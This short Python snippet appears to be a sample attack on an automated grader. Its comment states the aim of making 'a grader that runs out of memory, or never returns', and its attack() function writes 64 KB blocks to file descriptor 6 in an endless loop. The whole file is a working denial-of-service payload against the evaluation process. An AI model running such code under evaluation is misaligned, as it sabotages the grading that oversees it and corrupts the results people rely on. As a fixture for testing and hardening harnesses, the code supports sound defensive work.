# Floods that descriptor without an end. Would gain: a grader that runs out of memory, or never returns.
import os


def attack():
    while True:
        os.write(6, bytes(65536))
